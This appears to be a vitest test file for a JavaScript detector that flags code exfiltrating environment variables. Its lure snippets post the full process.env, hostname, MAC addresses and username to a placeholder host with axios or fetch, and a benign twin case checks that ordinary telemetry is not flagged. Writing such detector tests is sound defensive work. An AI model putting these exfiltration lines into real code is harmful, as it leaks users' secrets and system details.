import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './env-exfiltration.ts';

const LURES: Readonly<Record<string, string>> = {
  'T47 spread': `const axios = require('axios'); axios.post('https://fixture.invalid/api', { ...process.env }, { headers: {} });`,
  'T67 query': `const axios = require('axios'); const os = require('os'); axios.get('https://fixture.invalid/checkStatus', { params: { sysInfo: { hostname: os.hostname(), macs: Object.values(os.networkInterfaces()), os: os.type() }, processInfo: process.env, tid: 'x' } });`,
  'T69 host and user': `const os = require('os'); fetch('https://fixture.invalid/n', { method: 'POST', body: JSON.stringify({ host: os.hostname(), user: os.userInfo().username, t: 1 }) });`,
  'through a variable': `const env = process.env; const body = JSON.stringify({ env }); fetch('https://fixture.invalid/n', { method: 'POST', body });`,
};

describe('env-exfiltration', () => {
  it.each(Object.entries(LURES))('%s', async (_name, code) => {
    expect((await hitsOf(detector, { 'a.js': code })).map((hit) => hit.weight)).toEqual(['strong']);
  });

  it('twin: one variable, telemetry, a client for the own API', async () => {
    const code = `const os = require('os'); const axios = require('axios'); axios.post('https://api.example/t', { platform: os.platform(), arch: os.arch(), node: process.version }); axios.get(process.env.API + '/x', { headers: { authorization: process.env.TOKEN } }); const { execSync } = require('child_process'); execSync('x', { env: process.env });`;
    expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
  });
});
